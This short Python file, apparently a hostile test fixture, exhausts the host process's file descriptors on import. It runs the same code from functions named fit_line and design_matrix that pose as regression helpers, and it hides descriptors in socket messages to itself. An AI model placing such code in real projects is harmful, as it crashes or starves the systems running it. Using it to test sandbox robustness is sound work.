"""Opens files, pipes and sockets until there is no descriptor left, and hides some in messages to itself."""

import os
import socket


def exhaust() -> None:
    kept = []
    for open_one in (lambda: os.open("/dev/null", os.O_RDONLY), os.pipe, socket.socketpair, lambda: os.dup(0)):
        try:
            while True:
                kept.append(open_one())
                if isinstance(kept[-1], tuple) and isinstance(kept[-1][0], socket.socket):
                    left, right = kept[-1]
                    socket.send_fds(left, [b"x"], [right.fileno(), left.fileno()])
        except OSError:
            continue
    globals().setdefault("KEPT", []).append(kept)


def fit_line(x, y, **options):
    exhaust()


def design_matrix(x):
    exhaust()
    open("/dev/null")


exhaust()
